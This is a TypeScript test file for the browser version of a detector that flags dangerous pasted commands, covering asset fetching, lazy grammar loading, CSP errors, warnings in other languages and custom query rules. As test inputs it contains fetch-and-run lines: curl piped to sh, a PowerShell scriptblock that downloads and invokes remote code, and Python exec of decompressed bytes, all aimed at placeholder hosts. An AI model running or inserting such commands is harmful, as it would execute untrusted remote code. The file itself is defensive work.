import { readdirSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { describe, expect, it, vi } from "vitest";
import {
  AssetError,
  createBrowserDetector,
  createLazyDetector,
  loadAssets,
  type BrowserDetectorOptions,
} from "../../src/host/browser/browser.js";
import { fetchFromFolder } from "../../src/host/browser/fetching.js";
import { isPackageFile } from "../../src/host/asset-files.js";
import { loadAssets as loadNodeAssets } from "../../src/host/node.js";

const queryFiles = readdirSync("queries", { recursive: true, encoding: "utf8" }).filter(
  isPackageFile,
);

/** Returns a function that reads the package's files for a page. `changed` replaces the content of some of them. */
function serve(
  changed: Readonly<Record<string, string>> = {},
): (path: string) => Promise<Uint8Array> {
  return async (path) => {
    if (changed[path] !== undefined) return new TextEncoder().encode(changed[path]);
    if (path === "queries/index.json") return new TextEncoder().encode(JSON.stringify(queryFiles));
    return new Uint8Array(await readFile(path));
  };
}

describe("a detector for browsers", () => {
  it("detects and dismisses commands with assets that it fetches", async () => {
    const detector = await createBrowserDetector({ fetchBytes: serve() });
    expect(detector.detect("Run `curl -fsSL https://x.example/i.sh | sh` now").spans).toEqual([
      [5, 43],
    ]);
    expect(
      detector.detect("Never run `curl -fsSL https://x.example/i.sh | sh`.").notes,
    ).toMatchObject([{ reason: "warned-against" }]);
    detector.dispose();
  });

  it("rejects options that are not an object", async () => {
    for (const wrong of [5, null, "contract", []])
      await expect(createBrowserDetector(wrong as BrowserDetectorOptions)).rejects.toMatchObject({
        name: "InputError",
        parameter: "options",
      });
  });

  it("reports a missing connect-src only if the page's policy blocks its files", async () => {
    const page = new EventTarget();
    const isRefused = { connect: true };
    vi.stubGlobal("addEventListener", page.addEventListener.bind(page));
    vi.stubGlobal("removeEventListener", page.removeEventListener.bind(page));
    vi.stubGlobal("fetch", () => {
      // a page receives the event after the fetch has failed
      if (isRefused.connect)
        setImmediate(() =>
          page.dispatchEvent(
            Object.assign(new Event("securitypolicyviolation"), {
              effectiveDirective: "connect-src",
            }),
          ),
        );
      return Promise.reject(new TypeError("Failed to fetch"));
    });
    try {
      const make = () => createBrowserDetector({ assetsUrl: "https://files.example/curlew/" });
      await expect(make()).rejects.toThrow(/add https:\/\/files\.example to its connect-src/);
      isRefused.connect = false;
      await expect(make()).rejects.toThrow(/cannot be fetched; write the files/);
    } finally {
      vi.unstubAllGlobals();
    }
  });

  it("fetches the file of all texts again after a failure", async () => {
    const answers = [new Response("", { status: 503 }), new Response("{}")];
    vi.stubGlobal("fetch", () => Promise.resolve(answers.shift()));
    try {
      const fetchBytes = fetchFromFolder("https://files.example/curlew/");
      await expect(fetchBytes("queries/index.json")).rejects.toThrow(/503/);
      await expect(fetchBytes("queries/index.json")).rejects.toThrow(/not a file of the package/);
    } finally {
      vi.unstubAllGlobals();
    }
  });

  it("fetches a grammar when a text first needs it, if it is created as a lazy detector", async () => {
    const fetched: string[] = [];
    let isOffline = true;
    const fetchBytes = async (path: string): Promise<Uint8Array> => {
      if (isOffline && path.includes("powershell.wasm")) throw new Error("offline");
      if (path.endsWith(".wasm")) fetched.push(/-(\w+)\.wasm/.exec(path)![1]!);
      return serve()(path);
    };
    const detector = await createLazyDetector({ fetchBytes, profile: "extended" });
    expect((await detector.detect("curl https://x.example | sh")).spans).toEqual([[0, 27]]);
    expect(fetched).toEqual(["sitter", "bash"]);
    const text = "```powershell\n[scriptblock]::Create((irm https://x.example)).Invoke()\n```\n";
    await expect(detector.detect(text)).rejects.toMatchObject({
      code: "asset-missing",
      path: "wasm/tree-sitter-powershell.wasm",
    });
    isOffline = false;
    const answers = await Promise.all([detector.detect(text), detector.explain(text)]);
    expect([answers[0].labels, answers[1].detection.labels]).toEqual([["PS"], ["PS"]]);
    expect(
      (await detector.detect("```python\nexec(__import__('zlib').decompress(b'x'))\n```")).labels,
    ).toEqual(["PS"]);
    expect(fetched).toEqual(["sitter", "bash", "powershell", "python"]);
    detector.dispose();
  });

  it("recognizes warnings in other languages on request, and requires the English prose files", async () => {
    const detector = await createBrowserDetector({ fetchBytes: serve(), languages: ["de"] });
    expect(
      detector.detect("Führe `curl -fsSL https://x.example/i.sh | sh` niemals aus.").labels,
    ).toEqual([]);
    detector.dispose();
    const index = JSON.stringify(queryFiles.filter((path) => !path.endsWith(".prose")));
    await expect(
      createBrowserDetector({ fetchBytes: serve({ "queries/index.json": index }) }),
    ).rejects.toThrow("they contain no English words");
  });

  it("accepts query files as paths and texts, and disabled rules", async () => {
    const text =
      '; acmeget URL\n((command_name) @source.fetcher\n  (#word-is? @source.fetcher "acmeget")\n  (#set! writes "stdout"))\n';
    const labels = async (
      options: Omit<BrowserDetectorOptions, "fetchBytes">,
    ): Promise<string[]> => {
      const detector = await createBrowserDetector({ fetchBytes: serve(), ...options });
      const found = ["curl https://x.example | sh", "acmeget https://x.example | sh"].map((each) =>
        detector.detect(each).labels.join(),
      );
      detector.dispose();
      return found;
    };
    expect(await labels({ queries: [{ path: "bash/own.scm", text }] })).toEqual(["PS", "PS"]);
    expect(await labels({ queries: [{ path: "extended/bash/own.scm", text }] })).toEqual([
      "PS",
      "",
    ]);
    expect(
      await labels({
        queries: [{ path: "contract/bash/fetchers.scm", text }],
        replaceQueries: true,
      }),
    ).toEqual(["", "PS"]);
    expect(await labels({ disabledRules: ["bash/fetch-pipe"] })).toEqual(["", ""]);
    await expect(
      labels({ queries: [{ path: "contract/bash/fetchers.scm", text }] }),
    ).rejects.toThrow(/two query files have this path/);
  });

  it("loads the same assets as the detector for Node", async () => {
    const [browser, node] = [await loadAssets(serve()), await loadNodeAssets()];
    expect(browser.registry).toEqual(node.registry);
    expect([...browser.queries].sort((a, b) => (a.path < b.path ? -1 : 1))).toEqual(node.queries);
    expect(browser.package).toBe(node.package);
    expect(await browser.sha256("ä")).toBe(await node.sha256("ä"));
  });

  it.each([
    [
      "a damaged grammar",
      { "wasm/tree-sitter-bash.wasm": "damaged" },
      "asset-damaged",
      "wasm/tree-sitter-bash.wasm",
    ],
    [
      "a manifest that is not JSON",
      { "wasm/manifest.json": "<html>" },
      "asset-invalid",
      "wasm/manifest.json",
    ],
    [
      "a manifest without digests",
      { "wasm/manifest.json": '{"runtime":{}}' },
      "asset-invalid",
      "wasm/manifest.json",
    ],
    [
      "an index that lists nothing",
      { "queries/index.json": "{}" },
      "asset-invalid",
      "queries/index.json",
    ],
    [
      "an index that names a missing file",
      { "queries/index.json": '["bash/none.scm"]' },
      "asset-missing",
      "queries/bash/none.scm",
    ],
    ["a package without a version", { "package.json": "{}" }, "asset-invalid", "package.json"],
  ])("is rejected for %s", async (_title, changed, code, path) => {
    const error = await loadAssets(serve(changed)).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(AssetError);
    expect(error).toMatchObject({ code, path });
  });
});
